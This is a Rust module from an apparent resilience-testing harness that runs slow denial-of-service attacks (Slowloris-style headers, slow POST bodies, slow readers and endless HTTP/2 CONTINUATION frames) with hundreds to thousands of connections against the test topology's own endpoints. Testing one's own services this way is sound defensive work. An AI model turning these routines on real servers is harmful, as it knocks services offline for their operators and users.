//! Requests that are sent, or answers that are read, a byte at a time.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::super::attackers::{AttackCounts, run_attackers};
use super::super::dial::{self, Endpoint};
use super::super::topology::{Http2Target, SiegeTopology};
use super::super::{Attack, all_clients, frames};

/// Between two bytes.
const PAUSE: Duration = Duration::from_secs(1);

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "slow-headers",
        does: "clients without a certificate send the headers of requests to 10904 a line a second, without an end",
        bound: "1,500 connections",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: slow_headers,
    },
    Attack {
        name: "slow-bodies",
        does: "clients without a certificate send bodies of requests to 10904 a byte a second",
        bound: "1,500 connections",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: slow_bodies,
    },
    Attack {
        name: "slow-readers",
        does: "clients without a certificate ask 10904 for pages and read a byte a second",
        bound: "200 connections",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: slow_readers,
    },
    Attack {
        name: "slow-frames",
        does: "HTTP/2 headers to 10901, 10903 and 10900 that go on a frame a second, without an end",
        bound: "300 connections",
        min_duration: Duration::ZERO,
        clients: all_clients,
        run_attack: slow_frames,
    },
];

/// Sends `begin`, and then `again` every second until the peer closes.
fn send_slowly(
    topology: &SiegeTopology,
    until: Instant,
    begin: &'static str,
    again: &'static str,
) -> Result<AttackCounts> {
    let endpoint = Endpoint::plain(topology.hub_port(10904));
    dial::run(&topology.attacker_host, || async move {
        run_attackers(1_500, until, move |attacker| {
            let endpoint = endpoint.clone();
            async move {
                let permit = attacker.connect_permit().await?;
                let mut io = endpoint.connect().await?;
                drop(permit);
                attacker.count_opened();
                io.write_all(begin.as_bytes()).await?;
                let (mut read, mut write) = tokio::io::split(io);
                let sending = async {
                    loop {
                        sleep(PAUSE).await;
                        if write.write_all(again.as_bytes()).await.is_err() {
                            break;
                        }
                    }
                };
                tokio::select! {
                    () = sending => {}
                    () = dial::until_closed(&mut read) => {}
                }
                Ok(())
            }
        })
        .await
    })
}

fn slow_headers(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    send_slowly(
        topology,
        until,
        "GET /prom/paris/-/healthy HTTP/1.1\r\nHost: hub\r\n",
        "X-Siege: a\r\n",
    )
}

fn slow_bodies(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    let begin = "POST /prom/paris/api/v1/query HTTP/1.1\r\nHost: hub\r\nContent-Length: 100000\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\n\r\nquery=";
    send_slowly(topology, until, begin, "a")
}

fn slow_readers(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    let at = topology.hub_port(10904);
    dial::run(&topology.attacker_host, || async move {
        run_attackers(200, until, move |attacker| async move {
            let permit = attacker.connect_permit().await?;
            let mut tcp = dial::tcp(at).await?;
            drop(permit);
            attacker.count_opened();
            // An answer of about 100 KiB.
            tcp.write_all(b"GET /prom/paris/metrics HTTP/1.1\r\nHost: hub\r\n\r\n").await?;
            while tcp.read_u8().await.is_ok() {
                sleep(PAUSE).await;
            }
            Ok(())
        })
        .await
    })
}

fn slow_frames(topology: &SiegeTopology, until: Instant) -> Result<AttackCounts> {
    let targets = topology.http2_targets()?;
    dial::run(&topology.attacker_host, || async move {
        run_attackers(300, until, move |attacker| {
            let Http2Target { endpoint, .. } = targets[attacker.number % targets.len()].clone();
            async move {
                let permit = attacker.connect_permit().await?;
                let mut io = endpoint.connect().await?;
                drop(permit);
                attacker.count_opened();
                io.write_all(&[frames::preface(), frames::endless_headers(1)].concat()).await?;
                loop {
                    sleep(PAUSE).await;
                    io.write_all(&frames::continuation(1)).await?;
                    io.flush().await?;
                }
            }
        })
        .await
    })
}
